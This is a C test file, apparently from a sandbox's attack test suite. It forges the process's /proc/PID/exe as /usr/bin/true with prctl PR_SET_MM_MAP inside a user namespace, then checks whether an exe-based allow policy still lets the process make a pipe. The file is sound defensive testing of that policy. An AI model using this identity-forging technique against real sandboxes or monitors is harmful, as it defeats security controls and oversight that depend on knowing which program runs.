/* Puts an allowed program into its own /proc/PID/exe with PR_SET_MM_MAP, makes a pipe, and executes nothing.
 * policy: --policy tests/attacks/policies/true_is_free.yaml
 */
#include "../outside/userns.h"
#include <link.h>
#include <linux/prctl.h>

#define ABSENT "the kernel does not let a process change its program file"

/* Everything from here to the end runs from a copy: the program's own file may not be mapped any more. */
struct job {
    int p[2], exe;
    struct prctl_mm_map map;
    unsigned long low, high;
};

static inline long call(long n, long a, long b, long c, long d, long e)
{
    register long r10 __asm__("r10") = d, r8 __asm__("r8") = e;
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
    return result;
}

__attribute__((noinline, section("forger"))) static void forge(struct job *j)
{
    int q[2];
    char bytes[2] = {'A', 'B'};
    call(SYS_munmap, j->low, j->high - j->low, 0, 0, 0);
    j->map.exe_fd = j->exe;
    int forged = !call(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&j->map, sizeof j->map, 0);
    call(SYS_pipe2, (long)q, O_NONBLOCK, 0, 0, 0);
    call(SYS_write, q[1], (long)&bytes[0], 1, 0, 0);
    call(SYS_write, q[1], (long)&bytes[1], 1, 0, 0);
    long n = call(SYS_read, q[0], (long)bytes, 2, 0, 0);
    call(SYS_exit_group, (n == 2 && bytes[1] == 'B') | (forged ? 0 : 2), 0, 0, 0, 0);
    __builtin_unreachable();
}

static int own_range(struct dl_phdr_info *info, size_t size, void *found)
{
    struct job *j = found;
    (void)size;
    for (int i = 0; i < info->dlpi_phnum; i++)
        if (info->dlpi_phdr[i].p_type == PT_LOAD) {
            unsigned long at = info->dlpi_addr + info->dlpi_phdr[i].p_vaddr;
            j->low = at < j->low ? at & ~4095UL : j->low;
            at += info->dlpi_phdr[i].p_memsz + 4095;
            j->high = at > j->high ? at & ~4095UL : j->high;
        }
    return 1;
}

int main(void)
{
    int status;
    pid_t pid = fork();
    if (!pid) {
        struct job *j = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        char *code = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        char *heap = sbrk(0), *place = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        unsigned long at = (unsigned long)place;
        become_root(0);
        j->low = -1UL;
        dl_iterate_phdr(own_range, j);
        j->exe = open("/usr/bin/true", O_RDONLY);
        j->map = (struct prctl_mm_map){.start_code = at, .end_code = at + 1, .start_data = at, .end_data = at + 1,
            .start_brk = (unsigned long)heap, .brk = (unsigned long)heap, .start_stack = at, .arg_start = at,
            .arg_end = at + 1, .env_start = at, .env_end = at + 1};
        memcpy(code, (void *)forge, 1024);
        ((void (*)(struct job *))code)(j);
    }
    waitpid(pid, &status, 0);
    if (!WIFEXITED(status))
        end(0, "it died");
    end(WEXITSTATUS(status) & 1, WEXITSTATUS(status) & 2 ? "no forged file either" : "the file it was started from decides");
}
